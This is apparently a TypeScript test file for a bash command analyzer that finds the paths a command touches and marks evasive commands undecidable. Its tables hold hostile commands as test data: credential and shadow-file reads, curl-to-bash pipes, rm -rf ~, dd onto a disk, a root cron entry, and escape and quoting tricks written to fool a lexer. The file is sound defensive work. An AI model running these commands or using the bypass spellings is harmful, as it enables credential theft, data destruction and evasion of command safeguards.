// analyzeBash: a table of commands pinning the contract's facts (CONTRACT-v0.5 §5) and the
// bypass spellings where the real parser must find more than the contract's lexer.
import { describe, expect, it } from 'vitest'
import { analyzeBash } from '../index.js'

interface Row {
  /** The command. */
  cmd: string
  /** `paths`, exactly, in order. */
  paths: string[]
  undecidable: boolean
  /** Each segment's `normalized`, in order. */
  normalized?: string[]
  /** Each segment's `argv`, in order. */
  argv?: string[][]
  /** Each segment's `decidable`, in order. */
  decidable?: boolean[]
  /** Each segment's `command`, in order. */
  commands?: string[]
}

// Ordinary work: the contract's lexer is well defined here and the facts are exactly its facts.
const ordinary: Row[] = [
  { cmd: 'ls', paths: [], undecidable: false, argv: [['ls']], decidable: [true] },
  { cmd: 'ls -la src', paths: [], undecidable: false, normalized: ['ls -la src'] },
  { cmd: 'cat README.md', paths: ['README.md'], undecidable: false },
  { cmd: 'cat src/index.ts', paths: ['src/index.ts'], undecidable: false },
  { cmd: 'cat ./a', paths: ['./a'], undecidable: false },
  { cmd: 'cat Makefile', paths: [], undecidable: false },
  { cmd: 'git status', paths: [], undecidable: false, normalized: ['git status'] },
  { cmd: 'git log --oneline -5', paths: [], undecidable: false },
  { cmd: 'git diff HEAD~1', paths: [], undecidable: false },
  {
    cmd: 'npm run build && npm test',
    paths: [],
    undecidable: false,
    normalized: ['npm run build', 'npm test'],
    decidable: [true, true],
  },
  { cmd: 'grep -r foo .', paths: ['.'], undecidable: false, normalized: ['grep -r foo .'] },
  { cmd: 'grep -rn "TODO" src/', paths: ['src/'], undecidable: false },
  { cmd: "rg foo -g '*.ts'", paths: [], undecidable: false, argv: [['rg', 'foo', '-g', '*.ts']] },
  { cmd: 'ls *.ts', paths: ['.'], undecidable: false },
  { cmd: 'ls src/*.ts', paths: ['src'], undecidable: false },
  { cmd: 'ls /*', paths: ['/'], undecidable: false },
  { cmd: 'ls /etc/*.conf', paths: ['/etc'], undecidable: false },
  { cmd: 'ls src/**/x.ts', paths: ['src'], undecidable: false },
  { cmd: 'cat /etc/passwd', paths: ['/etc/passwd'], undecidable: false },
  { cmd: 'cat ~/.ssh/id_rsa', paths: ['~/.ssh/id_rsa'], undecidable: false },
  { cmd: 'ls ~', paths: ['~'], undecidable: false },
  { cmd: 'ls -la ~/', paths: ['~/'], undecidable: false },
  {
    cmd: 'echo hi > out.txt',
    paths: ['out.txt'],
    undecidable: false,
    argv: [['echo', 'hi', '>', 'out.txt']],
  },
  {
    cmd: 'echo hi >out.txt',
    paths: ['out.txt'],
    undecidable: false,
    normalized: ['echo hi >out.txt'],
  },
  { cmd: 'make 2>&1', paths: [], undecidable: false, argv: [['make', '2>&1']] },
  { cmd: 'make > /dev/null 2>&1', paths: ['/dev/null'], undecidable: false },
  { cmd: 'make >/dev/null', paths: ['/dev/null'], undecidable: false },
  { cmd: 'npm test 2>>err.log', paths: ['err.log'], undecidable: false },
  { cmd: 'cmd &> all.log', paths: ['all.log'], undecidable: false, normalized: ['cmd &> all.log'] },
  { cmd: 'cmd &>all.log', paths: ['all.log'], undecidable: false },
  { cmd: 'echo hi >&2', paths: [], undecidable: false, normalized: ['echo hi >&2'] },
  { cmd: 'cat < in.txt', paths: ['in.txt'], undecidable: false },
  { cmd: 'curl https://example.com/x', paths: ['https://example.com/x'], undecidable: false },
  { cmd: 'curl -fsSL https://example.com', paths: ['https://example.com'], undecidable: false },
  { cmd: 'ls | wc -l', paths: [], undecidable: false, normalized: ['ls', 'wc -l'] },
  {
    cmd: 'a && b || c; d & e',
    paths: [],
    undecidable: false,
    normalized: ['a', 'b', 'c', 'd', 'e'],
  },
  { cmd: 'sleep 1 &', paths: [], undecidable: false, commands: ['sleep 1'] },
  {
    cmd: 'ls -la | grep foo | head -5',
    paths: [],
    undecidable: false,
    normalized: ['ls -la', 'grep foo', 'head -5'],
  },
  {
    cmd: 'cmd |& tee x.log',
    paths: ['x.log'],
    undecidable: false,
    normalized: ['cmd', 'tee x.log'],
  },
  {
    cmd: 'FOO=bar npm test',
    paths: [],
    undecidable: false,
    normalized: ['npm test'],
    commands: ['FOO=bar npm test'],
  },
  { cmd: 'a=1 b=2', paths: [], undecidable: false, argv: [[]], normalized: [''] },
  { cmd: 'timeout 30s npm test', paths: [], undecidable: false, normalized: ['npm test'] },
  // `1.5` has the contract's `name.ext` shape.
  { cmd: 'timeout 1.5 make', paths: ['1.5'], undecidable: false, normalized: ['make'] },
  { cmd: 'nohup nice make', paths: [], undecidable: false, normalized: ['make'] },
  { cmd: 'time make', paths: [], undecidable: false, normalized: ['make'] },
  { cmd: 'nice -n 10 make', paths: [], undecidable: false, normalized: ['10 make'] },
  {
    cmd: 'stdbuf -oL tail -f log.txt',
    paths: ['log.txt'],
    undecidable: false,
    normalized: ['tail -f log.txt'],
  },
  {
    cmd: 'nohup node server.js &',
    paths: ['server.js'],
    undecidable: false,
    normalized: ['node server.js'],
  },
  { cmd: "echo 'a;b'", paths: [], undecidable: false, argv: [['echo', 'a;b']] },
  { cmd: 'echo "a b" \'c d\'', paths: [], undecidable: false, argv: [['echo', 'a b', 'c d']] },
  { cmd: 'echo "a|b" | cat', paths: [], undecidable: false, commands: ['echo "a|b"', 'cat'] },
  { cmd: "echo '$HOME'", paths: [], undecidable: false, decidable: [true] },
  { cmd: 'echo $1', paths: [], undecidable: false },
  // `?` is a glob character to the contract's lexer: `$?` adds `.`.
  { cmd: 'make; echo $?', paths: ['.'], undecidable: false },
  { cmd: 'node --version', paths: [], undecidable: false },
  { cmd: 'python3 -m http.server 8000', paths: ['http.server'], undecidable: false },
  { cmd: 'tar -czf out.tar.gz dist/', paths: ['out.tar.gz', 'dist/'], undecidable: false },
  { cmd: 'cp a.txt b.txt', paths: ['a.txt', 'b.txt'], undecidable: false },
  { cmd: 'mv src/a.ts src/b.ts', paths: ['src/a.ts', 'src/b.ts'], undecidable: false },
  { cmd: 'rm -rf node_modules', paths: [], undecidable: false },
  { cmd: 'rm -rf ../x', paths: ['../x'], undecidable: false },
  { cmd: 'cat ../../etc/passwd', paths: ['../../etc/passwd'], undecidable: false },
  {
    cmd: 'cat README.md README.md ./README.md',
    paths: ['README.md', './README.md'],
    undecidable: false,
  },
  {
    cmd: 'git commit -m "fix: x"',
    paths: [],
    undecidable: false,
    argv: [['git', 'commit', '-m', 'fix: x']],
  },
  { cmd: 'git commit -m "update docs/readme"', paths: ['update docs/readme'], undecidable: false },
  { cmd: "sed -i 's/a/b/' file.txt", paths: ['s/a/b/', 'file.txt'], undecidable: false },
  { cmd: "cat 'my file.txt'", paths: [], undecidable: false },
  { cmd: 'npx tsc -p tsconfig.json', paths: ['tsconfig.json'], undecidable: false },
  { cmd: 'npm i 2>&1 | tee log.txt', paths: ['log.txt'], undecidable: false },
  { cmd: 'echo hi | sudo tee /etc/hosts', paths: ['/etc/hosts'], undecidable: false },
  {
    cmd: 'sudo rm -rf /var/log/x',
    paths: ['/var/log/x'],
    undecidable: false,
    normalized: ['sudo rm -rf /var/log/x'],
  },
  { cmd: 'cd src && ls', paths: [], undecidable: false, normalized: ['cd src', 'ls'] },
  {
    cmd: '(cd sub && ls)',
    paths: [],
    undecidable: false,
    commands: ['(cd sub && ls)'],
    argv: [['cd', 'sub', '&&', 'ls']],
  },
  { cmd: '{ ls; pwd; }', paths: ['.'], undecidable: false, normalized: ['{ ls', 'pwd', '}'] },
  { cmd: "find . -name '*.log' -delete", paths: ['.'], undecidable: false },
  { cmd: 'test -f foo.txt && cat foo.txt', paths: ['foo.txt'], undecidable: false },
  { cmd: '[[ -f /etc/passwd ]] && echo y', paths: ['.', '/etc/passwd'], undecidable: false },
  {
    cmd: 'if [ -d build ]; then rm -rf build; fi',
    paths: ['.'],
    undecidable: false,
    normalized: ['if [ -d build ]', 'then rm -rf build', 'fi'],
  },
  {
    cmd: 'docker run -v /var/run/docker.sock:/x img',
    paths: ['/var/run/docker.sock:/x'],
    undecidable: false,
  },
  {
    cmd: "cat <<'EOF'\nhello\nEOF",
    paths: [],
    undecidable: false,
    argv: [['cat', '<<EOF'], ['hello'], ['EOF']],
  },
  { cmd: 'cat <<< "hi"', paths: [], undecidable: false },
  // Where the contract leaves escapes open, bash's rules: `\;` does not split; `\`-newline continues.
  { cmd: 'echo a\\;b', paths: [], undecidable: false, argv: [['echo', 'a;b']] },
  {
    cmd: 'echo a \\\n  b.txt',
    paths: ['b.txt'],
    undecidable: false,
    argv: [['echo', 'a', 'b.txt']],
  },
]

// What the contract itself calls undecidable stays undecidable.
const dynamic: Row[] = [
  { cmd: 'cat ~root/.bashrc', paths: [], undecidable: true },
  { cmd: 'echo ~user', paths: [], undecidable: true },
  { cmd: 'ls ../*.md', paths: ['..'], undecidable: true },
  { cmd: 'echo $HOME', paths: [], undecidable: true, decidable: [false] },
  { cmd: 'echo $(date)', paths: [], undecidable: true, argv: [['echo']] },
  { cmd: 'echo `date`', paths: [], undecidable: true, argv: [['echo']] },
  { cmd: 'echo $((1+2))', paths: [], undecidable: true },
  { cmd: 'diff <(ls a) <(ls b)', paths: [], undecidable: true, argv: [['diff']] },
  { cmd: 'cat .env', paths: ['.env'], undecidable: true },
  { cmd: 'eval "$x"', paths: [], undecidable: true },
  { cmd: 'sh -c "ls"', paths: [], undecidable: true },
  { cmd: 'echo "unterminated', paths: [], undecidable: true, decidable: [false] },
  { cmd: "echo 'x", paths: [], undecidable: true },
  { cmd: 'echo (x', paths: [], undecidable: true },
  { cmd: 'xargs rm < files.txt', paths: ['files.txt'], undecidable: true },
  { cmd: 'env FOO=1 node x.js', paths: ['x.js'], undecidable: true },
  { cmd: 'exec cat /etc/passwd', paths: ['/etc/passwd'], undecidable: true },
  { cmd: 'source ./env.sh', paths: ['./env.sh'], undecidable: true },
  { cmd: 'echo aGk= | base64 -d', paths: [], undecidable: true, decidable: [true, false] },
  {
    cmd: 'for f in *.txt; do cat "$f"; done',
    paths: ['.'],
    undecidable: true,
    normalized: ['for f in *.txt', 'do cat $f', 'done'],
  },
  {
    cmd: 'find . -name "*.o" -exec rm {} \\;',
    paths: ['.'],
    undecidable: true,
    argv: [['find', '.', '-name', '*.o', '-exec', 'rm', '{}', ';']],
  },
  {
    cmd: "cat <<'EOF'\n$(cat /etc/shadow)\nEOF",
    paths: [],
    undecidable: true,
    decidable: [true, false, true],
  },
  { cmd: 'cd "$D" && rm a.txt', paths: ['a.txt'], undecidable: true },
]

// Where the lexer is fooled: the parse finds the paths outside (`paths` here is the parse's
// `outside`, resolved from the starting directory) and decides (`undecidable` here is the
// parse's). The contract's own fields stay the lexer's (`normalized`, `argv` are checked too).
const bypasses: Row[] = [
  // Redirections glued to words, in every spelling.
  { cmd: 'echo hi>/etc/x', paths: ['/etc/x'], undecidable: false, normalized: ['echo hi>/etc/x'] },
  { cmd: 'cat</etc/passwd', paths: ['/etc/passwd'], undecidable: false },
  { cmd: 'cmd 2>&1>/etc/x', paths: ['/etc/x'], undecidable: false },
  { cmd: 'echo x>>/etc/x', paths: ['/etc/x'], undecidable: false },
  { cmd: 'echo x&>/etc/x', paths: ['/etc/x'], undecidable: false },
  { cmd: 'echo x >&/etc/x', paths: ['/etc/x'], undecidable: false },
  { cmd: 'cat 0</etc/shadow', paths: ['/etc/shadow'], undecidable: false },
  {
    cmd: 'echo x >| /etc/x',
    paths: ['/etc/x'],
    undecidable: false,
    normalized: ['echo x >', '/etc/x'],
  },
  { cmd: 'echo x 1<>/etc/x', paths: ['/etc/x'], undecidable: false },
  // `cd` within the same command; `~`, `$HOME` and `..`.
  { cmd: 'cd /etc && cat passwd', paths: ['/etc', '/etc/passwd'], undecidable: false },
  { cmd: 'cd /tmp; rm -rf build', paths: ['/tmp', '/tmp/build'], undecidable: false },
  { cmd: 'cd; rm -rf *', paths: ['~'], undecidable: false },
  { cmd: 'cd ~ && rm -rf .ssh', paths: ['~', '~/.ssh'], undecidable: false },
  { cmd: 'cd sub && cat ../../x.txt', paths: ['../x.txt'], undecidable: false },
  { cmd: 'cd - && rm a.txt', paths: [], undecidable: true },
  { cmd: '{ cd /etc; }; cat passwd', paths: ['/etc', '/etc/passwd'], undecidable: false },
  { cmd: '(cd /etc); cat passwd', paths: ['/etc'], undecidable: false },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell command, not a template
  { cmd: 'cat ${HOME}/.ssh/id_rsa', paths: ['~/.ssh/id_rsa'], undecidable: false },
  { cmd: 'cat $HOME/.netrc', paths: ['~/.netrc'], undecidable: false },
  // Assignments and their later use; unknown values.
  {
    cmd: 'D=/etc; cat $D/passwd',
    paths: ['/etc/passwd'],
    undecidable: false,
    normalized: ['', 'cat $D/passwd'],
  },
  { cmd: 'export D=/etc; cat "$D"/shadow', paths: ['/etc/shadow'], undecidable: false },
  { cmd: 'cat /etc/$F', paths: ['/etc'], undecidable: true },
  { cmd: 'rm -rf "$1"/', paths: [], undecidable: true },
  // Quoting and ANSI-C strings.
  { cmd: "cat $'/etc/passwd'", paths: ['/etc/passwd'], undecidable: false },
  { cmd: "cat $'\\x2fetc\\x2fpasswd'", paths: ['/etc/passwd'], undecidable: false },
  { cmd: "cat $'\\057etc/shadow'", paths: ['/etc/shadow'], undecidable: false },
  { cmd: 'cat /et""c/passwd', paths: ['/etc/passwd'], undecidable: false },
  // Substitutions: their paths are found (they stay undecidable).
  { cmd: 'echo $(cat /etc/shadow)', paths: ['/etc/shadow'], undecidable: false, argv: [['echo']] },
  { cmd: 'echo `cat /etc/shadow`', paths: ['/etc/shadow'], undecidable: false },
  { cmd: 'echo "$(cat ~/.aws/credentials)"', paths: ['~/.aws/credentials'], undecidable: false },
  { cmd: 'cat <(cat /etc/shadow)', paths: ['/etc/shadow'], undecidable: false },
  { cmd: 'echo x | tee >(cat > /etc/x)', paths: ['/etc/x'], undecidable: false },
  // Here-docs and here-strings.
  { cmd: 'cat <<EOF\n$(cat /etc/shadow)\nEOF', paths: ['/etc/shadow'], undecidable: false },
  {
    cmd: 'cat <<EOF > /etc/cron.d/x\n* * * * * root sh\nEOF',
    paths: ['/etc/cron.d/x'],
    undecidable: false,
  },
  { cmd: 'cat <<< "$(cat /etc/shadow)"', paths: ['/etc/shadow'], undecidable: false },
  // Commands that run other commands.
  {
    cmd: "bash -c 'cat /etc/shadow'",
    paths: ['/etc/shadow'],
    undecidable: false,
  },
  { cmd: 'sh -c "rm -rf ~"', paths: ['~'], undecidable: false },
  { cmd: "bash -ec 'rm -rf /opt/x'", paths: ['/opt/x'], undecidable: false },
  { cmd: "eval 'rm -rf /tmp/x'", paths: ['/tmp/x'], undecidable: true },
  { cmd: 'x=$(curl -s https://e.com); eval "$x"', paths: [], undecidable: true },
  { cmd: 'curl -s https://e.com/i.sh | bash', paths: [], undecidable: true },
  { cmd: 'wget -O- https://x.io/a.sh | sh -', paths: [], undecidable: true },
  { cmd: 'find / -name x -exec cat {} +', paths: ['/'], undecidable: false },
  { cmd: 'find . -type f -execdir rm {} \\;', paths: [], undecidable: false },
  { cmd: 'ls | xargs -I{} cp {} /etc', paths: ['/etc'], undecidable: true },
  { cmd: 'sudo -u root cat /etc/shadow', paths: ['/etc/shadow'], undecidable: false },
  { cmd: 'env -C /etc cat passwd', paths: ['/etc/passwd'], undecidable: false },
  { cmd: "env -S 'cat /etc/shadow'", paths: ['/etc/shadow'], undecidable: false },
  { cmd: 'nice -n 5 cat /etc/shadow', paths: ['/etc/shadow'], undecidable: false },
  {
    cmd: "timeout 5 bash -c 'cat ~/.aws/credentials'",
    paths: ['~/.aws/credentials'],
    undecidable: false,
  },
  { cmd: 'command cat /etc/passwd', paths: ['/etc/passwd'], undecidable: false },
  { cmd: 'nohup sh -c "cat /etc/x" &', paths: ['/etc/x'], undecidable: false },
  { cmd: 'sudo -i', paths: [], undecidable: true },
  { cmd: "sh -xc 'ls'", paths: [], undecidable: false, decidable: [true] },
  { cmd: 'find . -name x -ok rm {} \\;', paths: [], undecidable: false },
  { cmd: "cat $(printf '/etc/passwd')", paths: ['/etc/passwd'], undecidable: true },
  { cmd: 'echo "$(<~/.netrc)"', paths: ['~/.netrc'], undecidable: false },
  // Paths quoted in inline programs.
  {
    cmd: `python3 -c "print(open('/etc/passwd').read())"`,
    paths: ['/etc/passwd'],
    undecidable: false,
  },
  { cmd: "node -e 'require(`fs`).rmSync(`/srv/x`)'", paths: ['/srv/x'], undecidable: false },
  { cmd: 'python3 script.py --out=../x.txt', paths: ['../x.txt'], undecidable: false },
  // Options glued to paths that the lexer's `=` rule skips.
  { cmd: 'dd if=/dev/zero of=/dev/sda', paths: ['/dev/zero', '/dev/sda'], undecidable: false },
  { cmd: 'tool --output=/etc/x', paths: ['/etc/x'], undecidable: false },
]

function check(row: Row, parse = false) {
  const f = analyzeBash(row.cmd)
  const got = parse
    ? { paths: f.parse?.outside, undecidable: f.parse?.undecidable }
    : { paths: f.paths, undecidable: f.undecidable }
  expect(got).toEqual({ paths: row.paths, undecidable: row.undecidable })
  if (row.normalized) expect(f.segments.map((s) => s.normalized)).toEqual(row.normalized)
  if (row.argv) expect(f.segments.map((s) => s.argv)).toEqual(row.argv)
  if (row.decidable) expect(f.segments.map((s) => s.decidable)).toEqual(row.decidable)
  if (row.commands) expect(f.segments.map((s) => s.command)).toEqual(row.commands)
  for (const s of f.segments) expect(s.normalized).toBe(s.argv.join(' '))
  if (f.segments.some((s) => !s.decidable)) expect(f.undecidable).toBe(true)
}

describe('analyzeBash: the table', () => {
  it('has at least 100 commands', () => {
    expect(ordinary.length + dynamic.length + bypasses.length).toBeGreaterThanOrEqual(100)
  })
  it.each(ordinary.map((r) => [r.cmd, r]))('ordinary: %j', (_, row) => check(row as Row))
  it.each(dynamic.map((r) => [r.cmd, r]))('undecidable: %j', (_, row) => check(row as Row))
  it.each(bypasses.map((r) => [r.cmd, r]))('bypass: %j', (_, row) => check(row as Row, true))
})

describe('analyzeBash: shape', () => {
  it('enumerates exactly the contract keys; the detail is there but not enumerable', () => {
    const f = analyzeBash('cat a.txt > b.txt')
    expect(Object.keys(f)).toEqual(['paths', 'undecidable', 'segments'])
    expect(Object.keys(f.segments[0] ?? {})).toEqual(['command', 'argv', 'normalized', 'decidable'])
    expect(f).toEqual({
      paths: ['a.txt', 'b.txt'],
      undecidable: false,
      segments: [
        {
          command: 'cat a.txt > b.txt',
          argv: ['cat', 'a.txt', '>', 'b.txt'],
          normalized: 'cat a.txt > b.txt',
          decidable: true,
        },
      ],
    })
    expect(JSON.parse(JSON.stringify(f))).toEqual(f)
    expect(f.redirections).toEqual([{ fd: null, op: '>', target: 'b.txt' }])
    expect(f.parsed).toBe(true)
  })

  it('reports each command, how it is reached, and where it runs', () => {
    const f = analyzeBash("cd /srv && sudo bash -c 'rm -rf cache'")
    expect(f.commands).toEqual([
      { argv: ['cd', '/srv'], cwd: '.', via: [] },
      { argv: ['sudo', 'bash', '-c', 'rm -rf cache'], cwd: '/srv', via: [] },
      { argv: ['bash', '-c', 'rm -rf cache'], cwd: '/srv', via: ['sudo'] },
      { argv: ['rm', '-rf', 'cache'], cwd: '/srv', via: ['sudo', 'bash -c'] },
    ])
    expect(f.paths).toEqual(['/srv'])
    expect(f.parse?.paths).toEqual(['/srv', '/srv/cache'])
    expect(f.parse?.segments).toEqual([
      'cd /srv',
      'sudo bash -c rm -rf cache',
      'bash -c rm -rf cache',
      'rm -rf cache',
    ])
  })

  it('reports the kind of access per path and every redirection', () => {
    const f = analyzeBash('cp a.txt /tmp/b.txt < in.txt 2>>err.log 2>&1')
    expect(f.accesses).toEqual([
      { path: 'in.txt', resolved: 'in.txt', kind: 'read', physical: null },
      { path: 'err.log', resolved: 'err.log', kind: 'write', physical: null },
      { path: 'a.txt', resolved: 'a.txt', kind: 'read', physical: null },
      { path: '/tmp/b.txt', resolved: '/tmp/b.txt', kind: 'write', physical: null },
    ])
    expect(f.redirections).toEqual([
      { fd: null, op: '<', target: 'in.txt' },
      { fd: 2, op: '>>', target: 'err.log' },
      { fd: 2, op: '>&', target: '1' },
    ])
    expect(analyzeBash('rm -rf $X').accesses).toEqual([])
    expect(analyzeBash('./run.sh').accesses).toEqual([
      { path: './run.sh', resolved: 'run.sh', kind: 'exec', physical: null },
    ])
  })

  it('says why a command is undecidable', () => {
    expect(analyzeBash('ls').reasons).toEqual([])
    expect(analyzeBash('curl x | sh').reasons).toEqual(['sh runs commands read from its input'])
    expect(analyzeBash('eval "$(cat x)"').reasons).toContain('eval of a computed string')
    const bad = analyzeBash('echo "unterminated')
    expect(bad.parsed).toBe(false)
    expect(analyzeBash('ls').parsed).toBe(true)
  })
})

describe('analyzeBash: fails safe and never throws', () => {
  it('a 1 MB command is undecidable', () => {
    const f = analyzeBash(`echo ${'a'.repeat(1 << 20)}`)
    expect(f.undecidable).toBe(true)
    expect(f.parse?.undecidable).toBe(true)
    expect(f.reasons.join(' ')).toContain('more than the 65536 the analyzer reads')
    expect(f.segments).toHaveLength(0)
  })

  it('10,000 nested substitutions, parentheses, braces and ifs are undecidable', () => {
    for (const cmd of [
      `echo ${'$('.repeat(10000)}x${')'.repeat(10000)}`,
      `echo ${'`'.repeat(10000)}`,
      '('.repeat(10000),
      `${'( '.repeat(10000)}ls${' )'.repeat(10000)}`,
      `${'{ '.repeat(10000)}ls${'; }'.repeat(10000)}`,
      `${'if true; then '.repeat(5000)}ls${'; fi'.repeat(5000)}`,
      `bash -c "${'bash -c \\"'.repeat(200)}ls"`,
    ]) {
      const f = analyzeBash(cmd)
      expect(f.parse?.undecidable, cmd.slice(0, 40)).toBe(true)
    }
  })

  it('1 MB of statements, 2,000 segments, long brace lists: answered, undecidable', () => {
    for (const cmd of [
      'echo hi; rm -rf build && cat a.txt | grep x\n'.repeat(25000),
      'x;'.repeat(1 << 19),
      'x;'.repeat(2001),
      `echo ${'{a,b}'.repeat(13000)}`,
      Array.from({ length: 9000 }, (_, i) => `a/${i}`).join(' '),
      `${'if true; then '.repeat(10000)}ls${'; fi'.repeat(10000)}`,
    ]) {
      const f = analyzeBash(cmd)
      expect(f.parse?.undecidable, cmd.slice(0, 40)).toBe(true)
      expect(f.parse?.reasons.length, cmd.slice(0, 40)).toBeGreaterThan(0)
    }
    // Past 64 KiB nothing is read: every field is empty and undecidable.
    const big = analyzeBash('x;'.repeat(1 << 19))
    expect(big).toEqual({ paths: [], undecidable: true, segments: [] })
  })

  it('moderate nesting is still analyzed', () => {
    const f = analyzeBash(`echo ${'$('.repeat(8)}cat /etc/x${')'.repeat(8)}`)
    expect(f.paths).toEqual([])
    expect(f.undecidable).toBe(true)
    expect(f.parse?.outside).toEqual(['/etc/x'])
  })

  it('odd inputs answer instead of throwing', () => {
    for (const cmd of [
      '',
      '   ',
      '\0',
      ';;;',
      '&&',
      '|',
      ')',
      'echo \\',
      '$(',
      '<<EOF',
      'a\u2028b',
    ]) {
      const f = analyzeBash(cmd)
      expect(Array.isArray(f.paths)).toBe(true)
    }
    expect(analyzeBash('').segments).toEqual([])
    expect(analyzeBash('').undecidable).toBe(false)
    // @ts-expect-error: not a string
    expect(analyzeBash(undefined).segments).toEqual([])
    // @ts-expect-error: not a string
    expect(analyzeBash(Symbol('x')).parse?.undecidable).toBe(true)
  })
})

describe('analyzeBash: random shell-like input', () => {
  it('always answers with consistent facts', () => {
    const alphabet = [
      'a',
      '/',
      '.',
      ' ',
      '$',
      '(',
      ')',
      '{',
      '}',
      '`',
      "'",
      '"',
      '\\',
      '\n',
      ';',
      '&',
      '|',
      '>',
      '<',
      '~',
      '*',
      '=',
      '#',
      'cd ',
      'eval ',
      'bash -c ',
      '<<EOF\n',
      'EOF',
      '$((',
      '[[ ',
      ' ]]',
      'if ',
      'then ',
      'fi',
      'for x in ',
      'do ',
      'done',
      "$'",
      '\\x2f',
      '\t',
      'é',
      '😀',
    ]
    let seed = 42
    const rnd = (n: number) => {
      seed = (seed * 1103515245 + 12345) & 0x7fffffff
      return seed % n
    }
    for (let i = 0; i < 500; i++) {
      let cmd = ''
      for (let j = 1 + rnd(60); j > 0; j--) cmd += alphabet[rnd(alphabet.length)]
      const f = analyzeBash(cmd)
      expect(Array.isArray(f.paths), cmd).toBe(true)
      expect(new Set(f.paths).size, cmd).toBe(f.paths.length)
      for (const s of f.segments) expect(s.normalized, cmd).toBe(s.argv.join(' '))
      if (f.segments.some((s) => !s.decidable)) expect(f.undecidable, cmd).toBe(true)
      if (!f.parsed) expect(f.parse?.undecidable, cmd).toBe(true)
    }
  })
})
